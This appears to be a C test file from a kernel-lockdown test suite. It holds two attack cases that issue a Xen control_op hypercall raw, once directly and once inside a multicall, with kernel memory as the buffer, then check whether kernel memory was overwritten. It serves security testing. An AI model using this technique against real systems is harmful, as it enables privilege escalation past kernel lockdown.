// SPDX-License-Identifier: GPL-2.0-only
/*
 * The way that lockdown leaves open, misused: control_op issued raw, past the
 * kernel's check that its buffers are the caller's own.
 */
#include "../rogue.h"

#include "control_op.h"

/* A status call whose answer goes to this address. */
static struct control_op_call *status_call(uint64_t address)
{
    struct control_op_call *call = buffer(PAGE_SIZE);

    call->version = CONTROL_OP_VERSION;
    call->operation = CONTROL_OP_STATUS;
    call->nr_buffers = 1;
    call->args[0] = CONTROL_OP_REFERENCE(1, 0);
    call->buffers[0] =
        (struct control_op_buffer){ address, sizeof(struct control_op_status) };

    return call;
}

static size_t size_of(const struct control_op_call *call)
{
    return sizeof(*call) + call->nr_buffers * sizeof(call->buffers[0]);
}

/* Have a call sent by a raw hypercall; returns what Xen says of it. */
typedef long send_raw(struct control_op_call *call);

/*
 * Xen trusts the kernel to have looked at the buffers. A status call is sent
 * twice, once with the victim as its buffer, once with memory of our own: that
 * even this one gets through would mean that the kernel does not filter.
 */
static enum outcome send_past_kernel(send_raw *send)
{
    struct control_op_status *status = buffer(PAGE_SIZE), before, after;
    long result;

    read_victim(&before, sizeof(before));
    result = send(status_call(victim()));
    read_victim(&after, sizeof(after));

    if ( memcmp(&before, &after, sizeof(before)) )
        return effect(true, "the kernel's version overwritten");
    if ( result == -ENOSYS )
        return not_applicable("this Xen has no control_op");

    send(status_call((uintptr_t)status));
    return effect(status->version, "%s (%s)",
                  status->version ? "a raw call reached Xen"
                                  : "no buffer was written to",
                  result < 0 ? strerrorname_np((int)-result) : "no error");
}

static long plain(struct control_op_call *call)
{
    return hypercall3(CONTROL_OP_HYPERCALL, call, 1, size_of(call));
}

/* U-CONTROL-RAW: have control_op write its answer over the kernel. */
ATTACK("U-CONTROL-RAW",
       "issue control_op raw, with kernel memory as its buffer")
{
    return send_past_kernel(plain);
}

static long in_multicall(struct control_op_call *call)
{
    multicall_entry_t *entry = buffer(PAGE_SIZE);
    long result;

    *entry = (multicall_entry_t){ .op = CONTROL_OP_HYPERCALL,
                                  .args = { (uintptr_t)call, 1,
                                            size_of(call) } };
    result = hypercall2(__HYPERVISOR_multicall, entry, 1);

    return result ? result : (long)entry->result;
}

/*
 * U-CONTROL-RAW-MULTICALL: the same, in a list of calls.
 *
 * There control_op has no business at all: each of the two puts off what is
 * left of an interrupted call in a way of its own.
 */
ATTACK("U-CONTROL-RAW-MULTICALL",
       "issue control_op within a multicall, with kernel memory as its buffer")
{
    return send_past_kernel(in_multicall);
}
